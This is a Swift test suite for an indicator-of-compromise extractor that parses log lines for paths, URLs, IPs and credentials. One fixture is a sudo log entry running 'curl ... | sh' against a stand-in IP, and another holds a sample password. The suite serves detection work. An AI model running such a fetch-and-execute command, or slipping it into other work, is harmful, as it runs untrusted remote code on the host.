import Testing
import SpoorIndicators

/// Log lines where a command line meets key=value text (found on the demo's sudo line).
@Suite struct CommandLineExtractionTests {
    let extractor = IndicatorExtractor()

    func found(_ text: String) -> Set<String> { Set(extractor.extract(text).map(\.indicator.description)) }

    @Test func aProgramPathEndsBeforeItsArguments() {
        let f = found("deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://198.51.100.7/k.sh | sh")
        #expect(f.contains("x-unix-path:/bin/bash") && f.contains("url:http://198.51.100.7/k.sh"))
        #expect(f.contains("ipv4-addr:198.51.100.7"))
        #expect(!f.contains { $0.hasPrefix("x-unix-path:/bin/bash ") })
        // PWD is sudo's working directory, not a password.
        #expect(!f.contains { $0.hasPrefix("x-credential:") })
    }

    @Test func aPathWithASpaceStillReadsWhole() {
        let f = found("copied to /Library/Storage/File System/HFS/pivtoken.appex today")
        #expect(f.contains("x-unix-path:/Library/Storage/File System/HFS/pivtoken.appex"))
    }

    @Test func aRealPasswordIsStillACredential() {
        let f = found("mysql -u admin --password=Sup3rS3cret! -h db01")
        #expect(f.contains { $0.hasPrefix("x-credential:") } && !f.contains { $0.contains("Sup3rS3cret") })
    }
}
